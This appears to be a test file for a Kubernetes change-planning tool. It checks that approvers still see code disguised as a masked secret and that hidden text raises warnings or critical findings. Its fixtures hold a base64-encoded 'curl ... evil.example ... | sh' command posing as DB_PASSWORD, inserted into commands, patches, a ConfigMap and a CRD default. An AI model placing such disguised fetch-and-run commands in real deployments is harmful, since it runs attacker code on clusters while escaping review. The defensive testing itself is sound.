@@ -1,0 +1,184 @@
+"""Plans that would hide what they do: code that looks like a secret, so that an approver sees only a mask, and scales
+whose number of replicas is in no row; on a real API server.
+"""
+
+from __future__ import annotations
+
+import base64
+import secrets
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any, Final
+
+import pytest
+from kubernetes import client, config
+
+from kubescript.changes import plan
+from kubescript.changes.store import record
+from kubescript.changes.view import plain
+from tests.kit import clients, people
+from tests.kit.controlplane import shared
+from tests.kit.controlplane.writer import Object, Writer
+
+pytestmark = [pytest.mark.cluster, pytest.mark.promise("P-19"), pytest.mark.timeout(300)]
+
+NAMESPACE: Final = f"masks-{secrets.token_hex(3)}"
+CODE: Final = base64.b64encode(b"curl -s http://evil.example/x7Kq2 | sh -x").decode()
+"""Code as its readers do not see it, which a shell decodes and runs."""
+BEHIND_PASSWORD: Final = f"export DB_PASSWORD={CODE}; echo $DB_PASSWORD | base64 -d | sh"
+PASSWORD: Final = "Tr0ub4dor-3-horse"
+TOKEN: Final = "ghp_" + "Xk29fQ7mZt4LwV8sYb1NcR6hJd3PgA5eUoBi"
+
+
+@dataclass(frozen=True)
+class Place:
+    """A server in plan mode, with an audit log, and its namespace."""
+
+    server: people.Server
+    talk: people.Talk
+    core: Any
+    apps: Any
+    audit: Path
+
+    def plan(self, script: str) -> record.Record:
+        """The plan that a script leaves."""
+        return self.server.kept(self.talk.plan(script))
+
+
+@pytest.fixture(scope="module")
+def place(run_folder: Path, run_process: int, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    plane = shared.attach("scratch", run_folder, run_process)
+    writer = Writer(plane.kubeconfig)
+    writer.create({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
+    writer.create(deployment("web"))
+    writer.create(DEFINITION)
+    load: Any = config.new_client_from_config  # the client leaves it untyped
+    api = load(str(plane.kubeconfig))
+    folder = tmp_path_factory.mktemp("masks")
+    audit = folder / "audit.jsonl"
+    flags = [*people.flags(folder, plane.kubeconfig, SETTINGS), "--audit", str(audit)]
+    with people.server(flags, people.environment(folder)) as server, server.talk() as talk:
+        yield Place(server, talk, client.CoreV1Api(api), client.AppsV1Api(api), audit)
+
+
+SETTINGS: Final = "[write_policy]\nreplicas = [2, 100]\n"
+
+
+def deployment(name: str, **container: Any) -> Object:
+    """A Deployment with one container."""
+    web = {"name": "web", "image": "web:1", "env": [{"name": "DB_PASSWORD", "value": PASSWORD}], **container}
+    template = {"metadata": {"labels": {"app": name}}, "spec": {"containers": [web]}}
+    spec = {"replicas": 2, "selector": {"matchLabels": {"app": name}}, "template": template}
+    metadata = {"name": name, "namespace": NAMESPACE}
+    return {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec}
+
+
+def settings_of(text: str) -> Object:
+    """A ConfigMap with a file that pods run."""
+    metadata = {"name": "run", "namespace": NAMESPACE}
+    return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": {"run.sh": text}}
+
+
+def patch(body: object) -> str:
+    """A script that patches the Deployment."""
+    return f'k8s.AppsV1Api().patch_namespaced_deployment("web", "{NAMESPACE}", {body!r})\n1'
+
+
+def pool(**spec: Any) -> Object:
+    """A custom resource whose number of replicas is not in `spec.replicas`."""
+    metadata = {"name": "a", "namespace": NAMESPACE}
+    return {"apiVersion": f"{NAMESPACE}.example/v1", "kind": "Pool", "metadata": metadata, "spec": {"size": 5, **spec}}
+
+
+SPEC: Final = {
+    "type": "object",
+    "properties": {
+        "size": {"type": "integer"}, "replicas": {"type": "integer"},
+        "args": {"type": "string", "default": f"export DB_PASSWORD={CODE}"},
+    },
+}  # fmt: skip
+STATUS: Final = {"type": "object", "properties": {"size": {"type": "integer"}}}
+VERSION: Final[Object] = {
+    "name": "v1", "served": True, "storage": True,
+    "schema": {"openAPIV3Schema": {"type": "object", "properties": {"spec": SPEC, "status": STATUS}}},
+    "subresources": {"status": {}, "scale": {"specReplicasPath": ".spec.size", "statusReplicasPath": ".status.size"}},
+}  # fmt: skip
+DEFINITION: Final[Object] = {
+    "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
+    "metadata": {"name": f"pools.{NAMESPACE}.example"},
+    "spec": {
+        "group": f"{NAMESPACE}.example", "scope": "Namespaced", "names": {"kind": "Pool", "plural": "pools"},
+        "versions": [VERSION],
+    },
+}  # fmt: skip
+
+
+CONTAINER: Final = "/spec/template/spec/containers/0"
+SHELL: Final = ["sh", "-c", BEHIND_PASSWORD]
+CONTAINERS: Final[Object] = {"spec": {"template": {"spec": {"containers": [{"name": "web", "args": SHELL}]}}}}
+HIDDEN: Final = {
+    "a command, in what is created": f"k8s.AppsV1Api().create_namespaced_deployment({NAMESPACE!r}, "
+    f"{deployment('new', command=SHELL)!r})\n1",
+    "a command, in what is applied": f"k8s.apply({deployment('applied', command=SHELL)!r})\n1",
+    "arguments, in a strategic merge patch": patch(CONTAINERS),
+    "a command, in a JSON patch": patch([{"op": "add", "path": f"{CONTAINER}/command", "value": SHELL}]),
+    "a variable, in a JSON patch": patch(
+        [{"op": "add", "path": f"{CONTAINER}/env/-", "value": {"name": "RUN_PASSWORD", "value": BEHIND_PASSWORD}}]
+    ),
+    "a file": f"k8s.apply({settings_of(BEHIND_PASSWORD)!r})\n1",
+}
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_code_that_looks_like_a_secret_is_shown_to_the_approver_alone(name: str, place: Place) -> None:
+    """The approver reads the request's own words and how much the record hides; the store's rows have masks."""
+    entry = place.plan(HIDDEN[name])
+    (step,) = entry.plan.steps
+    shown = plain.text(entry, 400)
+    assert BEHIND_PASSWORD in shown and "on record redacted: 1 line, " in shown
+    assert CODE not in repr(step.rows)
+    assert hidden(step) == [("writes.hidden", "warning")]
+
+
+def test_a_form_shows_it_and_neither_the_answer_nor_the_record_has_it(place: Place) -> None:
+    """A person at a client reads it, approves, and exactly that is sent."""
+    person = people.Client()
+    with place.server.talk(person) as talk:
+        answer = talk.ask(f"k8s.apply({settings_of(BEHIND_PASSWORD)!r})\n1")
+    (question,) = person.questions
+    assert CODE in question.message and CODE not in clients.whole(answer)
+    assert place.core.read_namespaced_config_map("run", NAMESPACE).data == {"run.sh": BEHIND_PASSWORD}
+    assert CODE not in place.audit.read_text()
+
+
+def test_new_text_that_the_request_does_not_contain_is_a_critical_finding(place: Place) -> None:
+    """The default of a custom resource adds a secret that no approver can read, so one must take it on with a reason."""
+    entry = place.plan(f"k8s.apply({pool()!r})\n1")
+    assert hidden(entry.plan.steps[0]) == [("writes.hidden", "critical")]
+    shown = plain.text(entry, 400)
+    assert "CRITICAL writes.hidden" in shown and "redacted: 1 line, 56 bytes of new text" in shown
+    assert CODE not in shown
+    again = place.plan(f"k8s.apply({pool(args=BEHIND_PASSWORD)!r})\n1")
+    assert hidden(again.plan.steps[0]) == [("writes.hidden", "warning")]
+
+
+def test_a_name_that_looks_like_a_secret_is_a_critical_finding(place: Place) -> None:
+    """Its mask stands in the path, where nothing of the request is shown in its place."""
+    entry = place.plan(patch({"metadata": {"annotations": {TOKEN: "x"}}}))
+    assert hidden(entry.plan.steps[0]) == [("writes.hidden", "critical")]
+
+
+def test_what_the_old_object_has_masked_in_the_same_field_stays_masked(place: Place) -> None:
+    """A renamed container's password is not new; the same text in another variable is, and is shown."""
+    renamed = {**deployment("web")["spec"]["template"]["spec"]["containers"][0], "name": "renamed"}
+    entry = place.plan(patch([{"op": "replace", "path": CONTAINER, "value": renamed}]))
+    assert PASSWORD not in plain.text(entry, 400) and hidden(entry.plan.steps[0]) == []
+    moved = {"name": "RUN_PASSWORD", "value": PASSWORD}
+    entry = place.plan(patch([{"op": "add", "path": f"{CONTAINER}/env/-", "value": moved}]))
+    assert PASSWORD in plain.text(entry, 400) and hidden(entry.plan.steps[0]) == [("writes.hidden", "warning")]
+
+
+def hidden(step: plan.Step) -> list[tuple[str, str]]:
+    """The findings on what masks hide."""
+    return [(each.rule, each.level) for each in step.findings if each.rule == "writes.hidden"]
